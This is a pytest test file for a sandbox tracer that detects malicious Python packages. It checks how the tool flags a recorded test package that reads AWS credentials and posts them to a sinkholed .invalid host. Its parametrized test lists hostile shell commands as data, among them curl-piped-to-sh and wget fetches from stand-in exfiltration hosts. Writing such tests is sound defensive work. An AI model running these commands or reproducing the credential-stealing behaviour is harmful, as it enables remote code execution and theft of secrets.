"""Frames and dynamic indicators from a recorded real sandbox run (tests/trace/data/steal-aws:
slop-steal-aws's setup.py reads ~/.aws/credentials and POSTs it to a .invalid host)."""

import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from slopspotter_lab.scan import FRAMES
from slopspotter_lab.trace.categories import categorize_one
from slopspotter_lab.trace.frames import build_frames
from slopspotter_lab.trace.indicators import classify_processes, dynamic_indicators, find_canaries

DATA = Path(__file__).parent / "data" / "steal-aws"
CANARIES = json.loads((DATA / "canaries.json").read_text())


def test_frames_have_the_contract_columns():
    f = build_frames(DATA)
    for name, cols in FRAMES.items():
        frame = getattr(f, name)
        assert set(cols) <= set(frame.columns), (name, set(cols) - set(frame.columns))
        if len(frame):
            assert frame["ts"].between(0, 120).all() and frame["phase"].notna().all()
    assert f.syscall_count == len(f.syscalls) > 1000


def test_process_tree_phases_and_exit_codes():
    f = build_frames(DATA)
    p = f.processes
    pip = p[p["argv"].map(lambda a: a[1:4] == ["-m", "pip", "install"])].iloc[0]
    assert pip["phase"] == "install" and pip["exit_code"] == 0
    children = p[p["ppid"] == pip["pid"]]
    assert len(children) >= 2 and set(children["phase"]) == {"install"}
    imp = p[p["argv"].map(lambda a: any("importer.py" in x for x in a))].iloc[0]
    assert imp["phase"] == "import" and imp["exit_code"] == 0
    assert not p["argv"].map(lambda a: any("runner.py" in x for x in a)).any()  # harness filtered out


def test_endpoint_joined_with_resolver_and_sinkhole():
    f = build_frames(DATA)
    e = f.endpoints
    assert len(e) >= 1
    row = e.iloc[0]
    assert row["hostname"] == "collect.exfil-demo.invalid" and row["address"].startswith("10.66.")
    assert row["port"] == 80 and row["protocol"] == "tcp" and row["outcome"] == "sinkholed"
    assert row["payload_head"].startswith("POST /c HTTP/1.1") and row["bytes_sent"] > 100
    d = f.dns
    assert set(d["hostname"]) == {"collect.exfil-demo.invalid"} and set(d["qtype"]) == {"A"}
    assert d["pid"].isin(e["pid"]).all()  # the querying process is the one that connected


def test_files_ops_and_categories():
    f = build_frames(DATA).files
    assert set(f["op"]) <= {"read", "write", "create", "delete", "rename", "chmod", "exec"}
    assert {"read", "create", "exec"} <= set(f["op"])
    assert f["path"].str.startswith("/").all()
    ht = f[f["category"].eq("honeytoken")]
    assert list(ht["path"].unique()) == ["/home/alex/.aws/credentials"] and set(ht["op"]) == {"read"}
    assert (f["result"] != "ok").any()  # failed calls are kept (ENOENT probes)


def test_dynamic_indicators_on_recorded_run():
    f = build_frames(DATA)
    inds = dynamic_indicators(f, CANARIES)
    ids = {i.id for i in inds}
    assert {"honeytoken_read", "network_attempt", "dns_query", "honeytoken_exfiltration"} <= ids
    # pip's own machinery (setuptools caller = python -c) is not an inline interpreter alarm
    assert "inline_interpreter" not in ids and "shell_spawn" not in ids
    net = [i for i in inds if i.id == "network_attempt"][0]
    assert net.phase == "install" and net.extra["hostname"] == "collect.exfil-demo.invalid"
    assert all(i.source == "dynamic" for i in inds)
    assert dynamic_indicators(f, {}) and "honeytoken_exfiltration" not in {i.id for i in dynamic_indicators(f, {})}


def test_roles_separate_package_code_from_tooling():
    f = build_frames(DATA)
    roots = {p["pid"] for p in f.phases if p.get("pid")}
    roles = classify_processes(f.processes, roots).set_index("pid")["role"]
    assert "manager" in set(roles) and "host" in set(roles) and "root" in set(roles)


def test_canary_search_sees_encodings():
    key = CANARIES["aws_access_key_id"]
    assert find_canaries(f"{key.lower()}.t.exfil.invalid", CANARIES) == {"aws_access_key_id"}
    assert find_canaries(key.encode().hex() + ".x.invalid", CANARIES) == {"aws_access_key_id"}
    import base64

    assert "aws_access_key_id" in find_canaries(base64.b64encode(key.encode()).decode(), CANARIES)
    assert find_canaries("nothing to see here", CANARIES) == set()


def test_categories():
    assert categorize_one("/home/alex/.ssh/id_rsa") == "honeytoken"
    assert categorize_one("/home/alex/.ssh/known_hosts") == "ssh"
    assert categorize_one("/home/alex/.bashrc") == "shell_profile"
    assert categorize_one("/home/alex/.config/systemd/user/x.service") == "autostart"
    assert categorize_one("/proc/1/cgroup") == "sandbox_probe"
    assert categorize_one("/etc/shadow") == "system_secret"
    assert categorize_one("/usr/lib/python3.11/os.py") is None


def test_truncated_trace_still_parses(tmp_path):
    for name in ("phases.json", "harness.json", "fakenet.jsonl"):
        shutil.copy(DATA / name, tmp_path / name)
    text = (DATA / "trace.log").read_text()
    (tmp_path / "trace.log").write_text(text[: len(text) // 2])  # cut mid-line, as a size cap does
    f = build_frames(tmp_path)
    assert len(f.syscalls) > 100 and isinstance(f.processes, pd.DataFrame)


def test_empty_outdir(tmp_path):
    f = build_frames(tmp_path)
    assert f.processes.empty and f.endpoints.empty and f.syscall_count == 0


def test_own_cgroup_is_not_a_sandbox_probe():
    # runtimes read their own cgroup for CPU quotas (uv-build, cryptography's Rust code did, in
    # real benign scans); the container check reads pid 1's
    assert categorize_one("/proc/self/cgroup") is None
    assert categorize_one("/proc/1/cgroup") == "sandbox_probe"
    assert categorize_one("/.dockerenv") == "sandbox_probe"


def test_pip_build_env_runner_is_pip_so_executing_its_backend_is_not_package_behaviour():
    from slopspotter_lab.trace.indicators import _file_indicators

    hook = "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py"
    backend = "/tmp/pip-build-env-w1/overlay/local/bin/uv-build"
    procs = pd.DataFrame([
        {"pid": 10, "ppid": 1, "exe": "/usr/bin/python3", "argv": ["/usr/bin/python3", "-m", "pip", "install", "/in/p.tar.gz"]},
        {"pid": 11, "ppid": 10, "exe": "/usr/bin/python3",
         "argv": ["/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install",
                  "--prefix", "/tmp/pip-build-env-w1/overlay", "uv_build>=0.8"]},
        {"pid": 12, "ppid": 10, "exe": "/usr/bin/python3", "argv": ["/usr/bin/python3", hook, "build_wheel", "/tmp/x"]},
    ])
    role = classify_processes(procs, {10}).set_index("pid")["role"].to_dict()
    assert role[11] == "manager" and role[12] == "host"

    def files(writer: int) -> pd.DataFrame:
        return pd.DataFrame([
            {"phase": "install", "pid": writer, "op": "create", "path": backend, "result": "ok", "category": None},
            {"phase": "install", "pid": 12, "op": "exec", "path": backend, "result": "ok", "category": None}])

    assert [i.id for i in _file_indicators(files(11), role)] == []  # pip installed the build backend
    # the same file written by package code (the build hook) and then run is still caught
    assert [i.id for i in _file_indicators(files(12), role)] == ["exec_written_file"]


@pytest.mark.parametrize("command,flagged", [
    ("pkg-config --modversion libxml-2.0", False),  # lxml's setup.py (real benign scan)
    ("pkg-config --exists mariadb", False),  # mysqlclient
    ('(cd  "/tmp/pip-req-build-x/deps/libev"  && sh ./configure -C > configure-output.txt )', False),  # gevent
    ("mysql_config --libs 2>/dev/null", False),
    ("curl -s http://stage.exfil.invalid/x | sh", True),
    ("pkg-config --version; wget http://stage.exfil.invalid/x", True),
    ("pkg-config --cflags `curl http://stage.exfil.invalid`", True),
    ("make && ./payload", True),
    ("whoami", True),
])
def test_build_probe_shells_in_install_are_tooling(command, flagged):
    from slopspotter_lab.trace.indicators import _spawn_indicators

    hook = "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py"
    procs = pd.DataFrame([
        {"pid": 10, "ppid": 1, "phase": "install", "exe": "/usr/bin/python3",
         "argv": ["/usr/bin/python3", "-m", "pip", "install", "/in/p.tar.gz"]},
        {"pid": 12, "ppid": 10, "phase": "install", "exe": "/usr/bin/python3", "argv": ["/usr/bin/python3", hook]},
        {"pid": 13, "ppid": 12, "phase": "install", "exe": "/bin/sh", "argv": ["/bin/sh", "-c", command]},
    ])
    procs = classify_processes(procs, {10})
    role = dict(zip(procs["pid"], procs["role"]))
    assert ("shell_spawn" in {i.id for i in _spawn_indicators(procs, role)}) is flagged
    # the same probe at import time is not a build step: still a shell of the package's
    late = classify_processes(procs.drop(columns="role").assign(phase="import"), {10})
    assert "shell_spawn" in {i.id for i in _spawn_indicators(late, dict(zip(late["pid"], late["role"])))}
